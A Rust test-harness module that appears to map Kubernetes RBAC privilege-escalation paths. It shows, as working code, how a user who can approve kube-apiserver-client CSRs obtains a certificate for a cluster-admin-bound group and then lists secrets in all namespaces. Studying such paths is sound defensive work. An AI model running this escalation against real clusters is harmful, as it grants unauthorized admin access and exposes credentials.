//! A client certificate of somebody stronger.

use std::fs;
use std::time::Duration;

use anyhow::{Context as _, ensure};
use serde_json::json;

use super::{Edge, Walker, Way};
use crate::harness::authority::{Pair, request};
use crate::harness::{Result, User, base64, eventually};

const BOSS: &str = "
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: NS-boss}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: NS-bosses}]
";

pub(super) const EDGES: &[Edge] = &[Edge {
    id: "certificate",
    both: "cluster: {apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests], verbs: [create, get]}, {apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests/approval], verbs: [update]}, {apiGroups: [certificates.k8s.io], resources: [signers], resourceNames: [kubernetes.io/kubelet-serving], verbs: [approve]}",
    actor: "cluster: {apiGroups: [certificates.k8s.io], resources: [signers], resourceNames: [kubernetes.io/kube-apiserver-client], verbs: [approve]}",
    prey: BOSS,
    way: Way::By(certificate),
    shows: "NS-bosses",
    to: "cluster-admin",
}];

/// Asks for a certificate of a group that holds everything, approves it, and acts with it.
fn certificate(walker: &Walker<'_>) -> Result<String> {
    let group = walker.fill("NS-bosses");
    let pair = request("anybody", &[&group])?;
    walker.sure(&ask(walker, "taken", &pair)?, "created")?;
    let masters = ask(walker, "masters", &request("anybody", &["system:masters"])?)?;
    let refused = walker.once(&masters).err();
    let refused = format!("{:#}", refused.context("system:masters was let through")?);
    ensure!(refused.contains("system:masters"), "{refused}");
    if walker
        .decides("certificate approve NS-ACCOUNT-taken", "approved")?
        .is_none()
    {
        return Ok(String::new());
    }
    let issued = eventually("the certificate", Duration::from_secs(20), || {
        let written =
            walker.once("get csr NS-ACCOUNT-taken -o go-template={{.status.certificate}}")?;
        Ok((written.len() > 100).then_some(written))
    })?;
    let home = walker.cluster.home();
    fs::write(home.join("taken.b64"), issued.trim())?;
    fs::write(home.join("taken.key"), &pair.key)?;
    let authority = walker.cluster.kubeconfig(User::Admin);
    let authority = authority.with_file_name("pki").join("apiserver.crt");
    let login = format!(
        "base64 -d taken.b64 > taken.crt\nkubectl --kubeconfig=/dev/null --server={} --certificate-authority={} --client-certificate=taken.crt --client-key=taken.key",
        walker.cluster.server(),
        authority.display()
    );
    let secrets = walker
        .cluster
        .paste(&format!("{login} get secrets -A -o name"));
    secrets.context("with the certificate")?;
    let who = walker
        .cluster
        .paste(&format!("{login} auth whoami -o json"))?;
    Ok(who.replace(&group, "NS-bosses"))
}

/// A command that asks for it, by a file: what is encoded may hold letters that would be filled in.
fn ask(walker: &Walker<'_>, name: &str, pair: &Pair) -> Result<String> {
    let file = format!("{name}.json");
    let name = walker.fill(&format!("NS-ACCOUNT-{name}"));
    let request = base64(pair.text.as_bytes());
    let request = json!({
        "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": name},
        "spec": {"signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"], "request": request},
    });
    fs::write(walker.cluster.home().join(&file), request.to_string())?;
    Ok(format!("create -f {file}"))
}
